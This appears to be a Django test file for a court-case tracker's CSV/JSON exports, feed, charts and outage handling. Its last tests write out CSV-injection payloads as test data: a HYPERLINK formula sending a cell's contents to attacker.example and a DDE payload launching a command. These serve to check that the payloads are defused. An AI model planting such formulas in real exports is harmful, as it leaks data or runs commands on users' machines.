"""CSV and JSON exports hold exactly the filtered list, streamed; the Atom feed; the charts."""

import csv
import io
import json
import os
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import DEFAULT_DB_ALIAS, DatabaseError, connection, connections
from django.http import StreamingHttpResponse
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from cases.models import Hearing
from casetracker.listing import CSV_INCOMPLETE, EXPORT_CHUNK, FORMULA_STARTS, JSON_INCOMPLETE
from casetracker.publication import Status
from tests import factories as f
from tests.hostile.strategies import hostile_settings
from tests.public.conftest import build_world

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]

EXPORTS = [
    ("people:person_list", "people:person_export", {"article": "criminal-1997-164"}, "name"),
    ("people:organization_list", "people:organization_export", {"kind": "court"}, "name"),
    ("cases:case_list", "cases:case_export", {"outcome": "convicted"}, "title"),
    ("cases:hearing_list", "cases:hearing_export", {"instance": "first"}, "case"),
    ("events:incident_list", "events:incident_export", {"deaths": "without"}, "title"),
    ("casetracker:source_list", "casetracker:source_export", {"year": "2011"}, "title"),
]


def shown(row) -> str:
    """The name column of a list row as the list shows it."""
    if hasattr(row, "person"):
        return row.person.public_name
    if hasattr(row, "held_on"):
        return row.case.title
    return getattr(row, "title", None) or row.name


@pytest.mark.parametrize(("list_name", "export_name", "params", "column"), EXPORTS)
def test_exports_hold_the_rows_of_the_filtered_list(reader, list_name, export_name, params, column):
    build_world(4)
    f.PersonFactory(name="Uncharged Person")
    listed = [shown(row) for row in reader.get(reverse(list_name), params).context["rows"]]
    assert listed

    response = reader.get(reverse(export_name, args=["csv"]), params)
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row[column] for row in rows] == listed

    response = reader.get(reverse(export_name, args=["json"]), params)
    records = json.loads(b"".join(response.streaming_content))
    assert [record[column] for record in records] == listed
    assert list(records[0]) == list(rows[0])


def test_people_export_columns(reader, world):
    response = reader.get(reverse("people:person_export", args=["csv"]))
    header = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert header == [
        "name", "native_name", "named", "kind", "headcount_min", "headcount_max",
        "headcount_approximate", "url", "concern", "roles", "status", "status_certainty",
        "status_as_of",
    ]  # fmt: skip


def test_an_unknown_export_format_is_not_found(reader, world):
    assert reader.get(reverse("people:person_export", args=["xml"])).status_code == 404


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize(("list_name", "export_name", "_params", "_column"), EXPORTS)
def test_a_bad_filter_is_refused_with_the_lists_error(
    reader, world, list_name, export_name, _params, _column, fmt
):
    """An empty file with 200 would read as "no such rows"; the list answers 400 and says why."""
    bad = {"sort": "no-such-order"}
    listed = reader.get(reverse(list_name), bad)
    assert listed.status_code == 400
    form = listed.context["filter"].form
    [message] = form.errors["sort"]

    response = reader.get(reverse(export_name, args=[fmt]), bad)

    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert b"".join(response.streaming_content).decode() == f"{form['sort'].label}: {message}\n"


@pytest.mark.parametrize("rows", [3, 30])
def test_export_query_count_does_not_grow(reader, django_assert_num_queries, rows):
    build_world(rows)
    # people (+ sort name), roles, person citations, detentions, their citations, outcomes
    # (+ hearing, case, sentence), their citations: once per chunk of 500 rows.
    with django_assert_num_queries(7):
        response = reader.get(reverse("people:person_export", args=["csv"]))
        b"".join(response.streaming_content)


def test_the_feed_lists_newly_published_hearings_and_incidents(reader, world):
    response = reader.get(reverse("casetracker:feed"))
    assert response["Content-Type"].startswith("application/atom+xml")
    body = response.content.decode()
    assert body.count("<entry>") == 6
    assert "Protest 00" in body
    assert world.hearing.get_absolute_url() in body


def test_sentences_by_article_counts_a_sentence_only_under_its_own_cases_charges(reader, world):
    person = world.person
    other_article = f.LegalArticleFactory(article="334", slug="criminal-1997-334")
    # Charged under 334 in a second case, never sentenced in it: not a sentence under 334.
    unsentenced = f.CaseFactory(title="Second case", slug="second-case")
    f.ChargeFactory(case=unsentenced, defendant=person, article=other_article)
    # Sentenced under 334 in a third case, but at a hearing that is not public.
    hidden_case = f.CaseFactory(title="Third case", slug="third-case")
    f.ChargeFactory(case=hidden_case, defendant=person, article=other_article)
    hidden = f.HearingFactory(case=hidden_case, status=Status.DRAFT)
    f.SentenceFactory(outcome=f.OutcomeFactory(hearing=hidden, defendant=person))
    # A sentence upheld on appeal in the same case counts the defendant once.
    appeal = f.HearingFactory(case=world.case, instance=Hearing.Instance.APPEAL)
    f.SentenceFactory(outcome=f.OutcomeFactory(hearing=appeal, defendant=person))
    response = reader.get(reverse("home"))
    charts = {chart.slug: chart for chart in response.context["charts"]}
    assert [(bar.label, bar.value) for bar in charts["sentences-by-article"].bars] == [
        ("Criminal Code, 164", 3)
    ]


def test_home_charts_count_public_records(reader, world):
    f.DetentionFactory(person=world.person, started_on=date(2011, 12, 17))
    response = reader.get(reverse("home"))
    charts = {chart.slug: chart for chart in response.context["charts"]}
    detentions = {bar.label: bar.value for bar in charts["detentions-per-month"].bars}
    assert detentions == {"2011-09": 3, "2011-10": 0, "2011-11": 0, "2011-12": 1}
    assert [bar.value for bar in charts["hearings-per-month"].bars] == [3]
    assert [(bar.label, bar.value) for bar in charts["sentences-by-article"].bars] == [
        ("Criminal Code, 164", 3)
    ]
    statuses = {bar.label: bar.value for bar in charts["people-by-status"].bars}
    # Five-year terms from 2011 have run out; the extra detention has no reported end.
    assert (statuses["in custody"], statuses["released"]) == (1, 2)
    [point] = response.context["map"]
    assert (point.name, point.count) == ("Zhanaozen", 3)
    body = response.content.decode()
    assert 'role="img"' in body
    assert "<title" in body


def test_an_export_during_a_database_outage_answers_503_not_a_cut_off_file():
    """A real PostgreSQL address where nothing listens, as in test_health: the export must fail
    before it answers 200, or the reader keeps an empty file that looks complete."""
    script = (
        "import django; django.setup(); from django.test import Client; client = Client();"
        "answers = [client.get(f'/people/export.{fmt}') for fmt in ('csv', 'json')];"
        "print(*[(answer.status_code, answer.get('Retry-After')) for answer in answers])"
    )
    env = os.environ | {
        "DATABASE_URL": "postgres://postgres@127.0.0.1:9/unreachable",
        "ALLOWED_HOSTS": "testserver",
    }
    result = subprocess.run(
        [sys.executable, "-c", script],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "(503, '60') (503, '60')"


def cut_the_database() -> None:
    """What an outage does to the connection an export streams from, done for real: SQLite
    interrupts the running statement, PostgreSQL ends the backend from another connection."""
    if connection.vendor == "sqlite":
        connection.connection.interrupt()
        return
    other = connections.create_connection(DEFAULT_DB_ALIAS)
    try:
        with other.cursor() as cursor:
            cursor.execute(
                "SELECT pg_terminate_backend(%s)", [connection.connection.info.backend_pid]
            )
    finally:
        other.close()


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.django_db(
    transaction=True
)  # PostgreSQL loses the test's connection, transaction and all
def test_an_export_the_database_fails_during_does_not_look_complete(reader, fmt):
    call_command("generate_data", people=EXPORT_CHUNK + 10, seed=1, verbosity=0)
    response = reader.get(reverse("people:person_export", args=[fmt]))
    assert response.status_code == 200
    chunks = iter(response.streaming_content)
    received = [next(chunks), next(chunks)]  # the header or "[", then the first row
    cut_the_database()
    with pytest.raises(DatabaseError):  # raised again: the server breaks the transfer off
        received.extend(chunks)
    connection.close()

    body = b"".join(received).decode()
    rows = body.count("/people/")
    assert EXPORT_CHUNK <= rows < EXPORT_CHUNK + 10, "the first chunk, not the rest"
    assert body.endswith(CSV_INCOMPLETE if fmt == "csv" else JSON_INCOMPLETE)
    if fmt == "json":
        with pytest.raises(json.JSONDecodeError):
            json.loads(body)


def exported_csv(reader) -> list[list[str]]:
    response = reader.get(reverse("people:person_export", args=["csv"]))
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open the case file")'


def test_a_name_that_is_a_formula_reaches_the_csv_as_text(reader, db):
    """A spreadsheet would run the cell; a leading ' makes it text (OWASP, "CSV Injection")."""
    f.PersonFactory(name=FORMULA, native_name="@SUM(1+1)*cmd|' /C calc'!A0")
    [header, row] = exported_csv(reader)
    cells = dict(zip(header, row, strict=True))
    assert (cells["name"], cells["native_name"]) == (f"'{FORMULA}", "'@SUM(1+1)*cmd|' /C calc'!A0")

    response = reader.get(reverse("people:person_export", args=["json"]))
    [record] = json.loads(b"".join(response.streaming_content))
    assert record["name"] == FORMULA, "JSON is read by programs, and keeps the name as it is"


# Text a person's name may hold, often starting with what a spreadsheet takes for a formula.
names = st.tuples(
    st.sampled_from(["", *FORMULA_STARTS]),
    st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=30),
).map("".join)


@hostile_settings
@given(name=names.filter(bool), native_name=names)
def test_no_csv_cell_starts_as_a_formula(reader, db, name, native_name):
    f.PersonFactory(name=name, native_name=native_name)
    for row in exported_csv(reader)[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row
